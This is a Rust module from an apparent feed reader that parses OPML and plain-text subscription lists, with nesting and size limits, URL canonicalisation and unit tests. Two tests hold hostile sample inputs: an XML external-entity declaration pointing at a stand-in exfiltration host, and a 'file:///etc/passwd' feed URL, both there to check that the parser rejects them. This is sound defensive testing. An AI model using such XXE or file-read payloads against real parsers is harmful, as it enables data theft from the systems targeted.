//! Subscription lists: OPML documents and plain-text URL lists.
//!
//! Both loaders yield canonical feed URLs in document order with duplicates
//! removed. Entries that are not usable http(s) URLs are skipped with a
//! warning rather than failing the whole list.

use quick_xml::events::{BytesStart, Event};
use quick_xml::Reader;
use std::collections::HashSet;
use std::path::Path;
use thiserror::Error;

use crate::util::canonicalize_feed_url;

/// Maximum allowed nesting depth for OPML outline elements.
const MAX_OPML_DEPTH: usize = 50;

/// Subscription files larger than this are rejected unread.
const MAX_LIST_SIZE: u64 = 5 * 1024 * 1024;

#[derive(Debug, Error)]
pub enum SubscriptionError {
    #[error("OPML nesting depth exceeds maximum of {0} levels")]
    MaxDepthExceeded(usize),

    #[error("XML parse error: {0}")]
    XmlParse(String),

    #[error("Subscription file too large: {0} bytes")]
    TooLarge(u64),

    #[error("Failed to read subscription file: {0}")]
    Io(#[from] std::io::Error),
}

/// Read a subscription file, treating it as OPML when it has an `.opml` or
/// `.xml` extension or its content starts with `<`, and as a text list
/// otherwise.
pub async fn load_subscriptions(path: &Path) -> Result<Vec<String>, SubscriptionError> {
    let size = tokio::fs::metadata(path).await?.len();
    if size > MAX_LIST_SIZE {
        return Err(SubscriptionError::TooLarge(size));
    }
    let content = tokio::fs::read_to_string(path).await?;

    let by_extension = path
        .extension()
        .and_then(|e| e.to_str())
        .map(|e| e.eq_ignore_ascii_case("opml") || e.eq_ignore_ascii_case("xml"))
        .unwrap_or(false);

    if by_extension || content.trim_start().starts_with('<') {
        parse_opml(&content)
    } else {
        Ok(parse_url_list(&content))
    }
}

/// Extract feed URLs from every `<outline xmlUrl="...">`, at any nesting depth.
///
/// Folder outlines (no `xmlUrl`) are traversed but contribute nothing.
/// `quick-xml` never expands `<!ENTITY>` declarations, so entity references
/// in attributes produce a parse error instead of injected content.
pub fn parse_opml(content: &str) -> Result<Vec<String>, SubscriptionError> {
    let mut reader = Reader::from_str(content);
    reader.config_mut().trim_text(true);

    let mut urls = UrlSet::default();
    let mut buf = Vec::new();
    let mut depth: usize = 0;

    loop {
        match reader.read_event_into(&mut buf) {
            Ok(Event::Start(e)) if e.name().as_ref() == b"outline" => {
                depth += 1;
                if depth > MAX_OPML_DEPTH {
                    return Err(SubscriptionError::MaxDepthExceeded(MAX_OPML_DEPTH));
                }
                if let Some(url) = outline_xml_url(&e, &reader)? {
                    urls.push(&url);
                }
            }
            Ok(Event::Empty(e)) if e.name().as_ref() == b"outline" => {
                if let Some(url) = outline_xml_url(&e, &reader)? {
                    urls.push(&url);
                }
            }
            Ok(Event::End(e)) if e.name().as_ref() == b"outline" => {
                depth = depth.saturating_sub(1);
            }
            Ok(Event::Eof) => break,
            Err(e) => return Err(SubscriptionError::XmlParse(e.to_string())),
            _ => {}
        }
        buf.clear();
    }

    Ok(urls.into_vec())
}

fn outline_xml_url(
    e: &BytesStart<'_>,
    reader: &Reader<&[u8]>,
) -> Result<Option<String>, SubscriptionError> {
    for attr_result in e.attributes() {
        let attr = match attr_result {
            Ok(attr) => attr,
            Err(e) => {
                tracing::warn!(error = %e, "Skipping malformed OPML attribute");
                continue;
            }
        };
        if attr.key.as_ref() == b"xmlUrl" {
            let value = attr
                .decode_and_unescape_value(reader.decoder())
                .map_err(|e| SubscriptionError::XmlParse(e.to_string()))?;
            return Ok(Some(value.into_owned()));
        }
    }
    Ok(None)
}

/// One URL per line. Blank lines and lines starting with `#` are ignored,
/// as is anything after whitespace on a line.
pub fn parse_url_list(content: &str) -> Vec<String> {
    let mut urls = UrlSet::default();
    for line in content.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        if let Some(url) = line.split_whitespace().next() {
            urls.push(url);
        }
    }
    urls.into_vec()
}

/// Canonicalizes and de-duplicates while preserving first-seen order.
#[derive(Default)]
struct UrlSet {
    seen: HashSet<String>,
    ordered: Vec<String>,
}

impl UrlSet {
    fn push(&mut self, raw: &str) {
        match canonicalize_feed_url(raw) {
            Ok(url) => {
                if self.seen.insert(url.clone()) {
                    self.ordered.push(url);
                }
            }
            Err(e) => tracing::warn!(url = %raw, error = %e, "Skipping invalid feed URL"),
        }
    }

    fn into_vec(self) -> Vec<String> {
        self.ordered
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    #[test]
    fn test_parse_nested_opml() {
        let content = r#"<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>Test Feeds</title></head>
  <body>
    <outline text="Blogs" title="Blogs">
      <outline type="rss" text="Example Blog" xmlUrl="https://example.com/feed.xml" htmlUrl="https://example.com"/>
      <outline type="rss" text="Other" xmlUrl="https://other.example.org/rss"/>
    </outline>
    <outline type="rss" text="Top level" xmlUrl="https://top.example.net/atom"/>
  </body>
</opml>"#;

        let urls = parse_opml(content).unwrap();
        assert_eq!(
            urls,
            vec![
                "https://example.com/feed.xml".to_string(),
                "https://other.example.org/rss".to_string(),
                "https://top.example.net/atom".to_string(),
            ]
        );
    }

    #[test]
    fn test_opml_duplicates_and_invalid_urls_skipped() {
        let content = r#"<?xml version="1.0"?>
<opml version="2.0"><body>
    <outline xmlUrl="https://valid.example.com/feed"/>
    <outline xmlUrl="https://VALID.example.com/feed#frag"/>
    <outline xmlUrl="file:///etc/passwd"/>
    <outline xmlUrl="not a url"/>
</body></opml>"#;

        let urls = parse_opml(content).unwrap();
        assert_eq!(urls, vec!["https://valid.example.com/feed".to_string()]);
    }

    #[test]
    fn test_opml_escaped_ampersand_in_url() {
        let content = r#"<opml version="2.0"><body>
    <outline xmlUrl="https://example.com/feed?a=1&amp;b=2"/>
</body></opml>"#;

        let urls = parse_opml(content).unwrap();
        assert_eq!(urls, vec!["https://example.com/feed?a=1&b=2".to_string()]);
    }

    #[test]
    fn test_empty_opml() {
        let content = r#"<?xml version="1.0"?><opml version="2.0"><body></body></opml>"#;
        assert!(parse_opml(content).unwrap().is_empty());
    }

    #[test]
    fn test_malformed_opml_error() {
        let result = parse_opml("<opml><body><outline xmlUrl=\"https://a.example.com/\"></body>");
        assert!(result.is_err());
    }

    #[test]
    fn test_entity_not_expanded_in_url() {
        let content = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY exfil SYSTEM "https://evil.example.com/steal">]>
<opml version="2.0"><body>
    <outline text="Legit Feed" xmlUrl="&exfil;"/>
</body></opml>"#;

        match parse_opml(content) {
            Ok(urls) => assert!(urls.iter().all(|u| !u.contains("evil")), "{:?}", urls),
            Err(_) => {}
        }
    }

    #[test]
    fn test_deeply_nested_opml_rejected() {
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..100 {
            opml.push_str(r#"<outline text="level">"#);
        }
        for _ in 0..100 {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let err = parse_opml(&opml).unwrap_err();
        assert!(matches!(err, SubscriptionError::MaxDepthExceeded(50)));
    }

    #[test]
    fn test_nesting_at_depth_limit_allowed() {
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..50 {
            opml.push_str(r#"<outline text="level">"#);
        }
        opml.push_str(r#"<outline text="Deep Feed" xmlUrl="https://deep.example.com/feed"/>"#);
        for _ in 0..50 {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let urls = parse_opml(&opml).unwrap();
        assert_eq!(urls, vec!["https://deep.example.com/feed".to_string()]);
    }

    #[test]
    fn test_parse_url_list() {
        let content = "\
# my feeds
https://a.example.com/feed

  https://b.example.com/rss   trailing note
# https://commented.example.com/feed
https://a.example.com/feed
ftp://nope.example.com/
";
        assert_eq!(
            parse_url_list(content),
            vec![
                "https://a.example.com/feed".to_string(),
                "https://b.example.com/rss".to_string(),
            ]
        );
    }

    #[tokio::test]
    async fn test_load_subscriptions_detects_format() {
        let dir = std::env::temp_dir().join(format!("feedvault-subs-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();

        let opml_path = dir.join("subs.opml");
        std::fs::write(
            &opml_path,
            r#"<opml version="2.0"><body><outline xmlUrl="https://o.example.com/feed"/></body></opml>"#,
        )
        .unwrap();
        let list_path = dir.join("subs.txt");
        std::fs::write(&list_path, "https://l.example.com/feed\n").unwrap();

        assert_eq!(
            load_subscriptions(&opml_path).await.unwrap(),
            vec!["https://o.example.com/feed".to_string()]
        );
        assert_eq!(
            load_subscriptions(&list_path).await.unwrap(),
            vec!["https://l.example.com/feed".to_string()]
        );

        let missing = load_subscriptions(&dir.join("missing.txt")).await;
        assert!(matches!(missing, Err(SubscriptionError::Io(_))));

        let _ = std::fs::remove_dir_all(&dir);
    }
}
